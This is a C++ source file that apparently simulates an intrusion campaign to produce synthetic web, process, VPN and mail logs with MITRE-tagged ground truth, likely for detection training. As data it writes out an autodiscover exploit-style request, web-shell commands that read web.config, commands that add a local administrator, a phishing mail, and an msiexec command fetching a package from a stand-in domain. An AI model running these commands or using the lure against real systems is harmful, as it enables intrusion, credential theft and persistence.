// The ways in: the contractor's web server, from a request to an administrator of its own and a web shell; and the
// provider, by a stolen password, a mail, or its support appliance.
#include <fmt/format.h>

#include "demo/campaign.h"

namespace spoor::demo {
namespace {

const std::string kSystem32 = "C:\\Windows\\System32\\";

}  // namespace

void Campaign::EnterWebServer(Random* r, int64_t time) {
  const Tenant& t = world_.tenants[defence_];
  WindowsHost& web = estate_->Host(defence_, HostRole::kWeb);
  const std::string from = Relay(r);
  const uint64_t way = r->Below(3);
  static constexpr const char* kNames[] = {"requests like those of a known chain", "an upload handler",
                                           "a forged view state"};
  const Act act = Do(r, time, 3, "entry by the web server", "initial-access", "T1190", defence_, web.spec().name, "",
                     "a request makes the web server run a program", kNames[way]);
  estate_->truth.Host(t.slug, web.spec().name, RoleName(web.spec().role), true, HostState::kCompromised, time, act.step,
                      false);
  for (int64_t i = r->Between(4, 9); i > 0; --i) {
    Request q;
    q.client = from;
    q.agent =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
        "Safari/537.36";
    q.method = "POST";
    q.status = i == 1 ? 200 : r->Percent(60) ? 500 : 200;
    q.milliseconds = static_cast<int>(r->Between(60, 2400));
    if (way == 0) {
      q.path = "/autodiscover/autodiscover.json";
      q.query = "@mail.test/powershell/?X-Rps-CAT=" + r->Text(24, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") +
                "&Email=autodiscover/autodiscover.json%3F@mail.test";
    } else if (way == 1) {
      q.path = "/Upload.ashx";
    } else {
      q.path = "/Search.aspx";
    }
    Serve(estate_, act, time - i * r->Between(2, 9) * kSecond, defence_, q);
  }
  const Process& worker = web.Standing("w3wp");
  const Process shell = web.Start(act, time, worker, kSystem32 + "cmd.exe", "cmd.exe /c whoami", worker.logon, "High",
                                  "c:\\windows\\system32\\inetsrv\\");
  web.Start(act, time + 120'000, shell, kSystem32 + "whoami.exe", "whoami", worker.logon, "High",
            "c:\\windows\\system32\\inetsrv\\");

  // A low process whose child is the system's, without a service between.
  int64_t at = time + r->Between(8, 50) * kMinute;
  const bool spooler = r->Percent(50);
  const Act up =
      Do(r, at, 4, "privilege", "privilege-escalation", "T1068", defence_, web.spec().name, "SYSTEM",
         "a process of the web server's account has children of the system", spooler ? "by a service" : "directly");
  const std::string tool = "C:\\Windows\\Temp\\" + r->Text(6, "abcdefghijklmnopqrstuvwxyz") + ".exe";
  const Process stage = web.Start(up, at, worker, kSystem32 + "cmd.exe", "cmd.exe /c " + tool, worker.logon, "High",
                                  "c:\\windows\\system32\\inetsrv\\");
  web.WriteFile(up, at - 30 * kSecond, worker, tool);
  const Process exploit =
      web.Start(up, at + 200'000, stage, tool, tool, worker.logon, "High", "c:\\windows\\system32\\inetsrv\\");
  const Process system = web.Start(up, at + 3 * kSecond, spooler ? web.Standing("spoolsv") : exploit,
                                   kSystem32 + "cmd.exe", "cmd.exe", web.system());

  // The new administrator, within minutes.
  at += r->Between(2, 9) * kMinute;
  const Who account{fmt::format("{}-{}", "S-1-5-21-1839201744-2207431190-3314908112", r->Between(1003, 1012)),
                    account_name_, web.spec().name, true};
  const Act admin =
      Do(r, at, 5, "new administrator", "persistence", "T1136.001", defence_, web.spec().name,
         web.spec().name + "\\" + account_name_, "an account of the machine, put into Administrators within minutes");
  const auto net = [&](int64_t when, const std::string& what) {
    const Process p = web.Start(admin, when, system, kSystem32 + "net.exe", "net  " + what, web.system());
    web.Start(admin, when + 50'000, p, kSystem32 + "net1.exe", "C:\\Windows\\system32\\net1  " + what, web.system());
  };
  net(at, fmt::format("user {} * /add", account_name_));
  web.CreateAccount(admin, at + 300'000, web.system(), account, "");
  const int64_t joined = at + r->Between(4, 150) * kSecond;
  net(joined, fmt::format("localgroup administrators {} /add", account_name_));
  web.AddToGroup(admin, joined + 300'000, web.system(), account, "Administrators");
  estate_->truth.Account({t.slug, web.spec().name + "\\" + account_name_, "created", "", at, admin.step});
  LookAround(r, at + 5 * kMinute, &web, system, web.system(), 5);
  Later(time + r->Between(3, 9) * kHour, "web shell", [this](Random* random, int64_t when) { WebShell(random, when); });
  Install(r, time + 2 * kHour, &web, web.system(), system, false);
}

void Campaign::WebShell(Random* r, int64_t time) {
  WindowsHost& web = estate_->Host(defence_, HostRole::kWeb);
  const Process& worker = web.Standing("w3wp");
  const Act act = Do(r, time, 6, "web shell", "persistence", "T1505.003", defence_, web.spec().name, "",
                     "a script file appears below the web root", shell_file_);
  web.WriteFile(act, time, worker, shell_file_);
  estate_->truth.infrastructure.emplace_back("web shell", shell_path_);
  UseWebShell(r, time + r->Between(30, 400) * kSecond);
  const int64_t left = world_.end - time - 2 * kDay;
  for (int64_t n = r->Between(4, 8); n > 0; --n) {
    const int64_t at = time + r->Between(1, left / kMinute) * kMinute;
    const double part = static_cast<double>(at - world_.start) / static_cast<double>(world_.end - world_.start);
    if ((part > 0.30 && part < 0.43) || (part > 0.85 && part < 0.94)) continue;
    Later(at, fmt::format("web shell used {}", n), [this](Random* random, int64_t when) { UseWebShell(random, when); });
  }
}

void Campaign::UseWebShell(Random* r, int64_t time) {
  WindowsHost& web = estate_->Host(defence_, HostRole::kWeb);
  const std::string from = Relay(r);
  const Act act = Do(r, time, 6, "web shell used", "persistence", "T1505.003", defence_, web.spec().name, "",
                     "asked by POST from " + from);
  const Process& worker = web.Standing("w3wp");
  static constexpr const char* kCommands[] = {
      "ipconfig /all", "dir C:\\inetpub\\wwwroot", "tasklist /v", "net use", "type C:\\inetpub\\wwwroot\\web.config",
      "query session"};
  for (int64_t i = r->Between(2, 5); i > 0; --i) {
    Request q;
    q.client = from;
    q.agent = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0";
    q.method = "POST";
    q.path = shell_path_;
    q.milliseconds = static_cast<int>(r->Between(40, 900));
    Serve(estate_, act, time, defence_, q);
    if (r->Percent(70)) {
      const std::string command = kCommands[r->Below(std::size(kCommands))];
      web.Start(act, time + 30'000, worker, kSystem32 + "cmd.exe",
                fmt::format("\"cmd.exe\" /c cd /d \"C:\\inetpub\\wwwroot\"&{}", command), worker.logon, "High",
                "c:\\windows\\system32\\inetsrv\\");
    }
    time += r->Between(5, 90) * kSecond;
  }
}

void Campaign::EnterProvider(Random* r, int64_t time) {
  switch (r->Below(3)) {
    case 0:
      return ProviderByVpn(r, time);
    case 1:
      return ProviderByMail(r, time);
    default:
      return ProviderBySupport(r, time);
  }
}

// A password that fits, by the provider's VPN, from a home; then a desktop on the jump host.
void Campaign::ProviderByVpn(Random* r, int64_t time) {
  const Tenant& t = world_.tenants[0];
  const Person& p = world_.people[thief_.front()];
  WindowsHost& jump = estate_->Host(0, HostRole::kJump);
  const std::string from = Relay(r), inside = t.net + ".8.6";
  const Act act = Do(r, time, 3, "entry by a stolen password", "initial-access", "T1133", 0, jump.spec().name,
                     AccountOf(world_, p), "a sign-in to the VPN from a home that is not the account's", "VPN");
  LinuxLine(estate_, act, time - 40 * kSecond, 0, "ovpn-server[811]",
            fmt::format("{}:41120 [{}] Peer Connection Initiated with [AF_INET]{}:41120", from, p.user, from));
  LinuxLine(estate_, act, time - 39 * kSecond, 0, "ovpn-server[811]",
            fmt::format("{}/{}:41120 MULTI_sva: pool returned IPv4={}, IPv6=(Not enabled)", p.user, from, inside));
  estate_->Host(0, HostRole::kDomain).Kerberos(act, time - 100'000, WhoIs(world_, p), inside, jump.spec());
  const Logon logon = jump.LogOn(act, time, WhoIs(world_, p), 10, inside, "");
  const Process explorer = jump.Desktop(act, time + kSecond, logon);
  const Process shell = jump.Start(act, time + 90 * kSecond, explorer, kSystem32 + "cmd.exe",
                                   "\"C:\\Windows\\system32\\cmd.exe\" ", logon, "High");
  estate_->truth.Host(t.slug, jump.spec().name, RoleName(jump.spec().role), true, HostState::kCompromised, time,
                      act.step, false);
  estate_->truth.Account({t.slug, AccountOf(world_, p), "used", p.name, time, act.step});
  foothold_ = jump.spec().number;
  LookAround(r, time + 4 * kMinute, &jump, shell, logon, 6);
  Install(r, time + 20 * kMinute, &jump, logon, shell, false);
  Dump(r, time + 45 * kMinute, &jump, shell, logon);
  jump.LogOff(act, time + 70 * kMinute, logon);
}

// A mail with a link; a package installed by msiexec from there.
void Campaign::ProviderByMail(Random* r, int64_t time) {
  const Tenant& t = world_.tenants[0];
  const Person& p = world_.people[thief_.front()];
  WindowsHost& host = *estate_->MachineOf(thief_.front());
  const int64_t start = time - (time - world_.start) % kDay + 10 * kHour;  // it is read in working hours
  const std::string domain = t.slug + "-support-portal.test",
                    url = fmt::format("https://{}/kb/{}/client.msi", domain, r->Hex(8));
  const std::string server = "192.0.2.253";
  estate_->truth.infrastructure.emplace_back("delivery domain", domain);
  const Act mail = Do(r, start, 3, "mail with a link", "initial-access", "T1566.002", 0, host.spec().name, p.mail,
                      "a mail to an administrator of the provider", "mail");
  Message m;
  m.to = thief_.front();
  m.to_address = p.mail;
  m.from_name = "Support Portal";
  m.from = "support@" + domain;
  m.helo = "mail." + domain;
  m.client = server;
  m.dkim_domain = domain;
  m.subject = "Your client must be renewed by Friday";
  m.text = "The remote client expires. Please renew: " + url;
  m.id = r->Hex(20) + "@" + domain;
  Deliver(estate_, mail, start - 20 * kMinute, m);
  const Logon logon = host.LogOn(mail, start - 30 * kMinute, WhoIs(world_, p), 2, "127.0.0.1", host.spec().name);
  const Process explorer = host.Desktop(mail, start - 30 * kMinute + kSecond, logon);
  const Act act = Do(r, start, 3, "package installed from the web", "defense-evasion", "T1218.007", 0, host.spec().name,
                     AccountOf(world_, p), "msiexec fetches and installs", "mail");
  const Process shell = host.Start(act, start, explorer, kSystem32 + "cmd.exe",
                                   "\"C:\\Windows\\system32\\cmd.exe\" /c msiexec /q /i " + url, logon, "High");
  const Process msi =
      host.Start(act, start + 200'000, shell, kSystem32 + "msiexec.exe", "msiexec  /q /i " + url, logon, "High");
  host.Resolve(act, start + kSecond, msi, domain, server);
  host.Connect(act, start + kSecond + 60'000, msi, server, domain, 443);
  Visit v;
  v.client = host.spec().ip;
  v.user = t.netbios + "\\" + p.user;
  v.agent = "Windows Installer";
  v.url = url;
  v.server = server;
  v.received = 2'411'008;
  v.type = "application/octet-stream";
  Surf(estate_, act, start + kSecond + 60'000, 0, v);
  estate_->truth.Host(t.slug, host.spec().name, RoleName(host.spec().role), false, HostState::kCompromised, start,
                      act.step, false);
  estate_->truth.Account({t.slug, AccountOf(world_, p), "used", p.name, start, act.step});
  foothold_ = estate_->Host(0, HostRole::kJump).spec().number;
  Install(r, start + 9 * kSecond, &host, logon, msi, false);
  LookAround(r, start + kHour, &host, shell, logon, 5);
  Dump(r, start + 2 * kHour, &host, shell, logon);
  host.LogOff(mail, start + 6 * kHour, logon);
  // From there on to the jump host.
  WindowsHost& jump = estate_->Host(0, HostRole::kJump);
  const int64_t at = start + 9 * kHour;
  const Act spread = Do(r, at, 10, "on to the jump host", "lateral-movement", "T1021.001", 0, jump.spec().name,
                        AccountOf(world_, p), "by remote desktop from the administrator's machine");
  const Logon second = jump.LogOn(spread, at, WhoIs(world_, p), 10, host.spec().ip, host.spec().name);
  const Process desktop = jump.Desktop(spread, at + kSecond, second);
  estate_->truth.Host(t.slug, jump.spec().name, RoleName(jump.spec().role), true, HostState::kCompromised, at,
                      spread.step, false);
  Install(r, at + 5 * kMinute, &jump, second, desktop, false);
  jump.LogOff(spread, at + 40 * kMinute, second);
}

// The server of the remote management, by its support service.
void Campaign::ProviderBySupport(Random* r, int64_t time) {
  const Tenant& t = world_.tenants[0];
  WindowsHost& host = estate_->Host(0, HostRole::kManagement);
  const Act act = Do(r, time, 3, "entry by the support appliance", "initial-access", "T1190", 0, host.spec().name,
                     "SYSTEM", "the support service starts a shell", "support appliance");
  const Process service =
      host.Start(act, time - 2 * kSecond, host.Standing("services"),
                 "C:\\Program Files (x86)\\ManageBeacon\\Server\\BeaconSupport.exe",
                 "\"C:\\Program Files (x86)\\ManageBeacon\\Server\\BeaconSupport.exe\"", host.system());
  const Process shell =
      host.Start(act, time, service, kSystem32 + "cmd.exe", "cmd.exe /c \"whoami & hostname\"", host.system());
  estate_->truth.Host(t.slug, host.spec().name, RoleName(host.spec().role), true, HostState::kCompromised, time,
                      act.step, false);
  foothold_ = host.spec().number;
  LookAround(r, time + 3 * kMinute, &host, shell, host.system(), 6);
  Install(r, time + 15 * kMinute, &host, host.system(), shell, false);
  Dump(r, time + 50 * kMinute, &host, shell, host.system());
  const Person& p = world_.people[thief_.front()];
  estate_->truth.Account({t.slug, AccountOf(world_, p), "used", p.name, time + 50 * kMinute, act.step});
}

}  // namespace spoor::demo
